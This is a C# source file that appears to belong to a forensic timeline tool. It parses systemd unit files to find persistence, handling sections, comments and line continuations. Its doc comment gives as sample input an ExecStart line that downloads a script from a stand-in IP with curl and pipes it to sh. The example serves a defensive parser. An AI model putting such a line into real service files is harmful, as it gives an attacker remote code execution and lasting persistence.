using System.Text;
using Timeline.Core.Ingest;

namespace Timeline.Parsers.Linux.Persistence.SystemdUnit;

/// <summary>
/// Reads the assignments of a systemd unit file (systemd.syntax(7)):
/// <code>
/// [Service]
/// # comments start with '#' or ';'
/// ExecStart=/bin/bash -c "curl -s http://203.0.113.7/x | sh; \
///     sleep 60"
/// </code>
/// A trailing backslash continues a line; systemd replaces it with a space. Whitespace around '='
/// is dropped. A line that is none of section, assignment, comment or blank is a warning, as is an
/// assignment before the first section (systemd ignores both).
/// </summary>
public static class UnitFileReader
{
    public static IEnumerable<UnitDirective> Read(IEnumerable<TextLine> lines, ParseContext context)
    {
        string? section = null;
        var pending = new StringBuilder();
        long start = 0;
        foreach (var line in lines)
        {
            var text = line.Text.Trim();
            if (start == 0)
            {
                if (text.Length == 0 || text[0] is '#' or ';') continue;
                if (text[0] == '[' && text[^1] == ']')
                {
                    section = text[1..^1];
                    continue;
                }
                start = line.Number;
            }
            else if (text.Length > 0 && text[0] is '#' or ';') continue; // comments inside a continuation are skipped

            if (text.EndsWith('\\'))
            {
                pending.Append(text.AsSpan(0, text.Length - 1)).Append(' ');
                continue;
            }
            pending.Append(text);
            var logical = pending.ToString();
            var first = start;
            pending.Clear();
            start = 0;
            if (ToDirective(first, section, logical, context) is { } directive) yield return directive;
        }
        if (start != 0 && ToDirective(start, section, pending.ToString().TrimEnd(), context) is { } last) yield return last;
    }

    private static UnitDirective? ToDirective(long line, string? section, string logical, ParseContext context)
    {
        var equals = logical.IndexOf('=');
        if (equals <= 0)
        {
            context.Warn(line, "not a unit file line (expected [Section], Key=Value or a comment); systemd ignores it", logical);
            return null;
        }
        if (section is null)
        {
            context.Warn(line, "assignment outside of any [Section]; systemd ignores it", logical);
            return null;
        }
        return new UnitDirective(line, section, logical[..equals].TrimEnd(), logical[(equals + 1)..].TrimStart(), logical);
    }
}
